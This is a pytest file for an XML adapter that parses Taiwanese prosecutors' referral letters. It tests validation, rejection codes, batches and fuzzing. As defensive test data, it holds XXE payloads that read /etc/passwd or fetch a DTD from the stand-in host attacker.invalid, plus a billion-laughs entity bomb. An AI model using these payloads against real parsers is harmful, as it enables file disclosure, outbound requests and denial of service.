"""PROS_XML: prosecutors' referral letters (轉介函) → referrals, rejections and refusals; XXE; fuzz."""

from __future__ import annotations

import time as clock
from datetime import date, datetime, time
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from adapters.base import InboundReferral, ParseResult, RecordRejection, SubmissionRefused
from adapters.prosecutor_xml import ADAPTER, MAX_DEPTH, ProsecutorXmlAdapter
from adapters.validation import make_national_id

TAIPEI = ZoneInfo("Asia/Taipei")
RECEIVED_AT = datetime(2025, 7, 20, 9, 0, tzinfo=TAIPEI)
SUBJECT_ID = make_national_id("E", "20000123")
WRONG_ID = SUBJECT_ID[:-1] + str((int(SUBJECT_ID[-1]) + 1) % 10)
SAMPLE = Path(__file__).resolve().parents[3] / "deploy" / "local" / "samples" / "prosecutor_deferred.xml"

DISPOSITION = """
    <緩起訴期間 起="114/07/15" 迄="116/07/14"/>
    <附命條件>戒癮治療</附命條件><附命條件>社區處遇</附命條件>
    <社區處遇時數>40</社區處遇時數>
    <分流評估 醫療需求="低" 再犯風險="高"/>
    <指定醫院>凱旋醫院</指定醫院>
    <懷孕>否</懷孕>
    <同意轉介>是</同意轉介>"""


def letter(
    *,
    issuer: str = "PROS_KS",
    issued: str = "中華民國114年7月15日",
    ref: str = "雄檢114緩字第000123號",
    national_id: str = SUBJECT_ID,
    birth: str = "0800412",
    gender: str = "女",
    phone: str = "<電話>0912345678</電話>",
    district: str = "鳳山區",
    category: str = '類別="緩起訴"',
    disposition: str = DISPOSITION,
    extra: str = "",
) -> str:
    """The contract's example letter; keyword arguments replace its parts (raw XML where a part is optional)."""
    return f"""<轉介函 版本="1">
  <發文機關 代碼="{issuer}">臺灣高雄地方檢察署</發文機關>
  <發文日期>{issued}</發文日期>
  <發文字號>{ref}</發文字號>
  <案號>114年度偵字第12345號</案號>
  <被告>
    <姓名>蔡佳玲</姓名><身分證統一編號>{national_id}</身分證統一編號>
    <出生日期>{birth}</出生日期><性別>{gender}</性別>{phone}<行政區>{district}</行政區>
  </被告>
  <處分 {category}>{disposition}
  </處分>{extra}
</轉介函>"""


def batch(*letters: str) -> str:
    return "<轉介函清單>\n" + "\n".join(letters) + "\n</轉介函清單>"


def parse(xml: str | bytes, partner: str = "PROS_KS") -> ParseResult:
    return ADAPTER.parse(xml.encode() if isinstance(xml, str) else xml, partner, RECEIVED_AT)


def only_accepted(xml: str, partner: str = "PROS_KS") -> InboundReferral:
    result = parse(xml, partner)
    assert result.rejected == []
    assert len(result.accepted) == 1
    referral = result.accepted[0]
    assert isinstance(referral, InboundReferral)
    return referral


def only_rejection(xml: str) -> RecordRejection:
    result = parse(xml)
    assert result.accepted == []
    assert len(result.rejected) == 1
    return result.rejected[0]


def refusal(xml: str | bytes, partner: str = "PROS_KS") -> SubmissionRefused:
    with pytest.raises(SubmissionRefused) as caught:
        parse(xml, partner)
    return caught.value


# --- a good letter ------------------------------------------------------------------------------------------


def test_adapter_declares_its_format_and_media_types() -> None:
    assert isinstance(ADAPTER, ProsecutorXmlAdapter)
    assert ADAPTER.format == "PROS_XML"
    assert ADAPTER.content_types == frozenset({"application/xml", "text/xml"})


def test_deferred_prosecution_letter_becomes_a_referral() -> None:
    referral = only_accepted(letter())
    assert referral.record_no == 1
    assert referral.partner_ref == "雄檢114緩字第000123號"
    assert referral.kind == "DEFERRED_PROSECUTION"
    assert referral.legal_basis == "毒品危害防制條例第24條"
    assert referral.occurred_at == datetime(2025, 7, 15, 0, 0, tzinfo=TAIPEI)
    subject = referral.subject
    assert (subject.name, subject.national_id, subject.birth_date, subject.gender, subject.phone) == (
        "蔡佳玲",
        SUBJECT_ID,
        date(1991, 4, 12),
        "F",
        "0912345678",
    )
    assert (referral.place.district, referral.place.postal_code) == ("鳳山區", "830")
    # A case number and the conditions (which may name a victim) travel sealed.
    assert referral.personal_extra == {"case_no": "114年度偵字第12345號", "conditions": "戒癮治療;社區處遇"}
    assert referral.attributes == {
        "deferral_start": "2025-07-15",
        "deferral_end": "2027-07-14",
        "treatment_ordered": "Y",
        "community_hours_required": "40",
        "medical_need": "LOW",
        "recidivism_risk": "HIGH",
        "designated_hospital": "凱旋醫院",
        "hospital_code": "HOSP_KSPH",
        "pregnant": "N",
        "consent": "Y",
    }
    assert referral.flags == ()


def test_a_lone_letter_keeps_its_bytes_as_sent() -> None:
    body = letter().encode()
    result = ADAPTER.parse(body, "PROS_KS", RECEIVED_AT)
    assert result.accepted[0].raw == body
    assert result.context == b""


@pytest.mark.parametrize("issued", ["114/07/15", "1140715", "中華民國114年7月15日", "民國114年7月15日"])
def test_issue_date_in_every_roc_form(issued: str) -> None:
    assert only_accepted(letter(issued=issued)).occurred_at == datetime(2025, 7, 15, tzinfo=TAIPEI)


def test_recidivism_prevention_with_consent() -> None:
    referral = only_accepted(letter(category='類別="再犯防止"', disposition="<同意轉介>是</同意轉介>"))
    assert referral.kind == "RECIDIVISM_PREVENTION"
    assert referral.legal_basis == "毒品危害防制條例第2條之1"
    assert referral.attributes["consent"] == "Y"


@pytest.mark.parametrize("partner", ["PROS_KS", "PROS_CT", "PROS_MIL"])
def test_each_prosecutors_office_may_send_its_own_letters(partner: str) -> None:
    assert only_accepted(letter(issuer=partner), partner).partner_ref == "雄檢114緩字第000123號"


def test_missing_optional_elements_are_absent_from_attributes() -> None:
    referral = only_accepted(
        letter(phone="", disposition='<緩起訴期間 起="114/07/15" 迄="115/07/14"/>').replace(
            "<案號>114年度偵字第12345號</案號>", ""
        )
    )
    assert referral.subject.phone is None
    assert referral.attributes == {
        "deferral_start": "2025-07-15",
        "deferral_end": "2026-07-14",
        "treatment_ordered": "N",
    }


@pytest.mark.parametrize(
    ("hospital", "code"),
    [("高雄長庚紀念醫院", "HOSP_CGMH"), ("高醫", "HOSP_KMUH"), ("林口長庚紀念醫院", "HEALTH"), ("某某診所", "HEALTH")],
)
def test_designated_hospital_is_matched_to_its_code(hospital: str, code: str) -> None:
    referral = only_accepted(letter(disposition=DISPOSITION.replace("凱旋醫院", hospital)))
    assert referral.attributes["designated_hospital"] == hospital
    assert referral.attributes["hospital_code"] == code


def test_a_qualified_treatment_condition_still_orders_treatment() -> None:
    disposition = DISPOSITION.replace(">戒癮治療<", ">戒癮治療（美沙冬替代療法）<")
    assert only_accepted(letter(disposition=disposition)).attributes["treatment_ordered"] == "Y"


def test_zero_community_hours_is_a_value() -> None:
    disposition = DISPOSITION.replace("<社區處遇時數>40</社區處遇時數>", "<社區處遇時數>０</社區處遇時數>")
    assert only_accepted(letter(disposition=disposition)).attributes["community_hours_required"] == "0"


def test_comments_and_a_utf8_bom_are_harmless() -> None:
    body = b"\xef\xbb\xbf" + ('<?xml version="1.0" encoding="UTF-8"?>\n<!-- 測試 -->\n' + letter()).encode()
    assert len(ADAPTER.parse(body, "PROS_KS", RECEIVED_AT).accepted) == 1


# --- rejections of one letter -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("xml", "field", "code"),
    [
        (letter(category='類別="再犯防止"', disposition="<同意轉介>否</同意轉介>"), "同意轉介", "CONSENT_REQUIRED"),
        (letter(category='類別="再犯防止"', disposition=""), "同意轉介", "CONSENT_REQUIRED"),
        (letter(category='類別="起訴"'), "類別", "UNKNOWN_CATEGORY"),
        (letter(category=""), "類別", "MISSING_VALUE"),
        (letter(national_id=WRONG_ID), "身分證統一編號", "INVALID_CHECKSUM"),
        (letter(national_id="E2000"), "身分證統一編號", "INVALID_FORMAT"),
        (letter(issued="114/02/30"), "發文日期", "INVALID_DATE"),
        (letter(issued=""), "發文日期", "MISSING_VALUE"),
        (letter(ref=""), "發文字號", "MISSING_VALUE"),
        (letter(ref="字" * 65), "發文字號", "INVALID_FORMAT"),
        (letter(birth="1150101"), "出生日期", "INVALID_DATE"),
        (letter(birth=""), "出生日期", "MISSING_VALUE"),
        (letter(gender="F"), "性別", "INVALID_GENDER"),
        (letter(phone="<電話>12345</電話>"), "電話", "INVALID_PHONE"),
        (letter(district="信義區"), "行政區", "UNKNOWN_DISTRICT"),
        (letter(disposition=DISPOSITION.replace('迄="116/07/14"', '迄="114/07/14"')), "緩起訴期間", "INVALID_PERIOD"),
        (letter(disposition=DISPOSITION.replace('迄="116/07/14"', '迄="116/02/30"')), "緩起訴期間", "INVALID_DATE"),
        (letter(disposition=DISPOSITION.replace(' 迄="116/07/14"', "")), "緩起訴期間", "MISSING_VALUE"),
        (letter(disposition="<附命條件>戒癮治療</附命條件>"), "緩起訴期間", "MISSING_VALUE"),
        (letter(disposition=DISPOSITION.replace(">40<", ">四十小時<")), "社區處遇時數", "INVALID_HOURS"),
        (letter(disposition=DISPOSITION.replace(">40<", ">-5<")), "社區處遇時數", "INVALID_HOURS"),
        (letter(disposition=DISPOSITION.replace(">40<", ">" + "9" * 5000 + "<")), "社區處遇時數", "INVALID_HOURS"),
        (letter(disposition=DISPOSITION.replace('醫療需求="低"', '醫療需求="中"')), "醫療需求", "INVALID_ASSESSMENT"),
        (letter(disposition=DISPOSITION.replace('再犯風險="高"', '再犯風險="HIGH"')), "再犯風險", "INVALID_ASSESSMENT"),
        (letter(disposition=DISPOSITION.replace("<懷孕>否", "<懷孕>不詳")), "懷孕", "INVALID_VALUE"),
        (letter(disposition=DISPOSITION.replace("<同意轉介>是", "<同意轉介>Y")), "同意轉介", "INVALID_CONSENT"),
        (letter(disposition=DISPOSITION.replace("社區處遇<", "社區處遇;義務勞務<")), "附命條件", "INVALID_FORMAT"),
        (letter(extra="<發文字號>雄檢114緩字第000124號</發文字號>"), "發文字號", "DUPLICATE_ELEMENT"),
        (letter().replace(' 代碼="PROS_KS"', ""), "發文機關", "MISSING_VALUE"),
        (letter().replace("<處分", "<處分備註").replace("</處分>", "</處分備註>"), "處分", "MISSING_VALUE"),
        (letter().replace("被告>", "關係人>"), "被告", "MISSING_VALUE"),
    ],
)
def test_a_bad_element_rejects_the_letter_naming_it(xml: str, field: str, code: str) -> None:
    rejection = only_rejection(xml)
    assert (rejection.record_no, rejection.field, rejection.code) == (1, field, code)
    assert rejection.reason.startswith("第 1 份轉介函")
    assert f"「{field}」" in rejection.reason
    assert rejection.reason.endswith("。") and "\n" not in rejection.reason


def test_a_rejection_never_echoes_the_national_id() -> None:
    rejection = only_rejection(letter(national_id=WRONG_ID))
    assert WRONG_ID not in rejection.reason
    assert f"「{WRONG_ID[:3]}****{WRONG_ID[-3:]}」" in rejection.reason


def test_birth_after_the_letter_is_rejected() -> None:
    rejection = only_rejection(letter(issued="114/07/15", birth="1140716"))
    assert (rejection.field, rejection.code) == ("出生日期", "INVALID_DATE")


# --- batches ------------------------------------------------------------------------------------------------


def test_a_batch_numbers_its_letters_in_document_order() -> None:
    first = letter(ref="雄檢114緩字第000001號")
    second = letter(ref="雄檢114緩字第000002號", gender="X")
    third = letter(ref="雄檢114緩字第000003號", category='類別="再犯防止"', disposition="<同意轉介>是</同意轉介>")
    result = parse(batch(first, second, third))
    assert [(r.record_no, r.partner_ref) for r in result.accepted] == [
        (1, "雄檢114緩字第000001號"),
        (3, "雄檢114緩字第000003號"),
    ]
    assert [(r.record_no, r.field, r.code) for r in result.rejected] == [(2, "性別", "INVALID_GENDER")]
    assert "雄檢114緩字第000002號" in result.rejected[0].reason


def test_a_batch_letter_replays_on_its_own() -> None:
    result = parse(batch(letter(ref="雄檢114緩字第000001號"), letter(ref="雄檢114緩字第000002號")))
    for referral in result.accepted:
        assert isinstance(referral, InboundReferral)
        assert referral.raw.startswith("<轉介函".encode()) and referral.raw.endswith("</轉介函>".encode())
        again = ADAPTER.parse(referral.raw, "PROS_KS", RECEIVED_AT).accepted[0]
        assert isinstance(again, InboundReferral)
        assert (again.partner_ref, again.subject, again.attributes) == (
            referral.partner_ref,
            referral.subject,
            referral.attributes,
        )


def test_something_else_in_a_batch_is_rejected_as_a_record() -> None:
    result = parse(batch(letter(), "<公文>其他</公文>"))
    assert len(result.accepted) == 1
    assert [(r.record_no, r.field, r.code) for r in result.rejected] == [(2, "(整筆)", "UNKNOWN_ELEMENT")]


# --- refusals of the whole submission -----------------------------------------------------------------------


def test_another_offices_code_refuses_the_submission() -> None:
    refused = refusal(letter(issuer="PROS_CT"), partner="PROS_KS")
    assert (refused.code, refused.field, refused.record_count) == ("WRONG_PARTNER", "發文機關", 1)
    assert "PROS_CT" in refused.reason


def test_one_foreign_letter_refuses_the_whole_batch() -> None:
    refused = refusal(batch(letter(), letter(issuer="PROS_MIL"), letter()), partner="PROS_KS")
    assert (refused.code, refused.record_count) == ("WRONG_PARTNER", 3)


def test_a_partner_that_is_not_a_prosecutor_is_refused() -> None:
    assert refusal(letter(), partner="POLICE").code == "WRONG_PARTNER"


XXE_FILE = """<?xml version="1.0"?>
<!DOCTYPE 轉介函 SYSTEM "file:///etc/passwd">
<轉介函 版本="1"><發文字號>x</發文字號></轉介函>"""
XXE_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE 轉介函 [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<轉介函 版本="1"><發文字號>&secret;</發文字號></轉介函>"""
XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE 轉介函 [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<轉介函/>"""
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">\n' for n in range(1, 10)).replace(
        "&lol0;", "&lol;"
    )
    + "]>\n<轉介函><發文字號>&lol9;</發文字號></轉介函>"
)


@pytest.mark.parametrize("xml", [XXE_FILE, XXE_ENTITY, XXE_PARAMETER, BILLION_LAUGHS])
def test_dtds_and_entities_are_refused_not_expanded(xml: str) -> None:
    began = clock.perf_counter()
    refused = refusal(xml)
    assert refused.code == "XML_FORBIDDEN"
    assert clock.perf_counter() - began < 1.0, "nothing may be expanded before refusing"
    assert "root:" not in refused.reason


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"", "EMPTY_SUBMISSION"),
        (b"  \r\n", "EMPTY_SUBMISSION"),
        ("<轉介函><發文字號>x</轉介函>".encode(), "MALFORMED_XML"),
        ("<轉介函>&amp</轉介函>".encode(), "MALFORMED_XML"),
        (b"not xml at all", "MALFORMED_XML"),
        (letter().encode("utf-16"), "ENCODING"),
        ('<?xml version="1.0" encoding="Big5"?><轉介函/>'.encode("cp950"), "ENCODING"),
        ("<公文/>".encode(), "UNKNOWN_DOCUMENT"),
        ("<轉介函清單></轉介函清單>".encode(), "EMPTY_SUBMISSION"),
        (("<轉介函>" + "<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH + "</轉介函>").encode(), "MALFORMED_XML"),
    ],
)
def test_unreadable_submissions_are_refused(body: bytes, code: str) -> None:
    refused = refusal(body)
    assert refused.code == code
    assert refused.reason.endswith("。")


def test_a_malformed_document_says_where() -> None:
    assert "第 2 行" in refusal("<轉介函>\n<發文字號>x</轉介函>").reason


def test_very_deep_nesting_is_refused_without_recursion_errors() -> None:
    depth = 100_000
    body = "<轉介函清單><轉介函>" + "<a>" * depth + "</a>" * depth + "</轉介函></轉介函清單>"
    assert refusal(body).code == "MALFORMED_XML"


def test_the_deployment_sample_is_accepted_whole() -> None:
    result = ADAPTER.parse(SAMPLE.read_bytes(), "PROS_KS", RECEIVED_AT)
    assert result.rejected == []
    [referral] = result.accepted
    assert isinstance(referral, InboundReferral)
    assert referral.attributes["treatment_ordered"] == "Y"
    assert referral.attributes["hospital_code"] == "HOSP_CGMH"
    assert referral.occurred_at.timetz() == time(0, 0, tzinfo=TAIPEI)


# --- fuzz: whatever arrives, a result or a refusal ----------------------------------------------------------

VALID = batch(letter(ref="雄檢114緩字第000001號"), letter(ref="雄檢114緩字第000002號")).encode()
# Bytes that matter to XML and UTF-8: markup, quotes, entity starts, a DOCTYPE, lead and continuation bytes.
INTERESTING = st.sampled_from(
    [b"<", b">", b"/", b"&", b'"', b"=", b"\x00", b"\xe8", b"\x80", b"\xff", b"<!DOCTYPE a>", b"&lol;", b"<![CDATA["]
)


@st.composite
def mutated_sample(draw: st.DrawFn) -> bytes:
    data = bytearray(VALID)
    for _ in range(draw(st.integers(min_value=1, max_value=6))):
        at = draw(st.integers(min_value=0, max_value=len(data)))
        action = draw(st.sampled_from(["flip", "insert", "truncate", "duplicate_line", "delete"]))
        if action == "flip" and at < len(data):
            data[at] = draw(st.integers(min_value=0, max_value=255))
        elif action == "insert":
            data[at:at] = draw(st.one_of(INTERESTING, st.binary(min_size=1, max_size=4)))
        elif action == "truncate":
            del data[at:]
        elif action == "duplicate_line":
            lines = bytes(data).split(b"\n")
            pick = draw(st.integers(min_value=0, max_value=len(lines) - 1))
            lines.insert(pick, lines[pick])
            data = bytearray(b"\n".join(lines))
        else:
            del data[at : at + draw(st.integers(min_value=1, max_value=40))]
    return bytes(data)


def check_outcome(data: bytes) -> None:
    try:
        result = ADAPTER.parse(data, "PROS_KS", RECEIVED_AT)
    except SubmissionRefused as refused:
        assert refused.code and refused.reason
        return
    assert isinstance(result, ParseResult)
    numbers = sorted([r.record_no for r in result.accepted] + [r.record_no for r in result.rejected])
    assert numbers == list(range(1, len(numbers) + 1)), "every letter is either accepted or rejected, once"
    assert all(r.reason and r.code and r.field for r in result.rejected)
    # The per-letter safety net must not be what keeps the parser alive: a caught bug is still a bug.
    assert "INTERNAL_ERROR" not in {r.code for r in result.rejected}


def run_fuzz(strategy: st.SearchStrategy[bytes], label: str) -> None:
    ran = 0

    @settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(strategy)
    def one(data: bytes) -> None:
        nonlocal ran
        ran += 1
        check_outcome(data)

    one()
    print(f"\nprosecutor_xml fuzz ({label}): {ran} inputs")
    assert ran >= 300


def test_fuzz_random_bytes() -> None:
    run_fuzz(st.binary(max_size=800), "random bytes")


def test_fuzz_mutated_sample() -> None:
    run_fuzz(mutated_sample(), "mutated sample")
